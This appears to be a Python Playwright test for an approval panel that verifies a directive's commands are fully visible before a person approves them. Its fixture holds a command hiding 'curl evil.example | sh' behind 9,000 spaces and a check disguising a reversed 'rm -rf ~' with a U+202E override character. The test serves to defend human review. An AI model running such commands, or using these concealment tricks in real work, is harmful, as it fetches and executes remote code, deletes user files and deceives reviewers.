"""The page of a directive as a person sees it before approving it."""

import os
from pathlib import Path

from playwright.sync_api import Page, expect

from tests.panel.browser.stage import Stage

GAP = "echo ok" + " " * 9000 + "; curl evil.example | sh"
LONG = 'set -e\nfor f in *.txt; do\n    wc -l "$f"\ndone\n' + "".join(f"echo step {n}\n" for n in range(30))
DIRECTIVE = {
    "id": "D-approval",
    "title": "Publish the reports",
    "body": "The reports of October, as files and as a page.",
    "risks": ["The link in the mail may be old"],
    "tasks_to_create": [
        {
            "title": "Write the reports",
            "body": "One file per customer.",
            "steps": [{"name": "write", "cmd": LONG}, {"name": "gap", "cmd": GAP}],
            "acceptance": {
                "checks": [{"name": "none is empty", "cmd": "test -s out.txt # \u202e ;~ fr- mr"}],
                "expected_files": ["out.txt", "reports/index.html"],
            },
            "params": {"secrets": ["MAIL_KEY"], "month": "2026-10"},
            "allowed_scope": ["reports/", "out.txt"],
            "timeout_seconds": 600,
        },
        {"title": "Describe them", "body": "Write a page that links them all.\nKeep it short.", "depends_on": [1]},
        {"title": "Send", "task_type": "python", "params": {"handler": "mail", "to": "all"}, "depends_on": [2]},
    ],
}


def propose(panel: Stage) -> None:
    """Have the directive wait for a decision."""
    panel.do(panel.served.post("/ops/directives", DIRECTIVE))


def test_what_follows_a_gap_is_in_sight(page: Page, panel: Stage) -> None:
    """The hidden end of a command lies within the window, beside a marker; nothing is cut off; then it is applied."""
    propose(panel)
    page.goto("/panel/directives/D-approval")
    folder = os.environ.get("ELRUSO_TEST_PICTURES")
    if folder:
        page.screenshot(path=Path(folder) / "approval.png", full_page=True)
    hidden = page.locator("code", has_text="curl evil.example | sh")
    expect(hidden.get_by_text("9,000 spaces")).to_be_visible()
    box = hidden.bounding_box()
    assert box is not None
    assert box["x"] >= 0
    assert box["x"] + box["width"] <= 1280
    assert not page.evaluate("[...document.querySelectorAll('.executed')].some(e => e.scrollWidth > e.clientWidth + 1)")
    expect(page.get_by_text("U+202E", exact=True).first).to_be_visible()
    page.get_by_role("button", name="Apply").click()
    expect(page.locator("#live-state")).to_contain_text("Applied by")
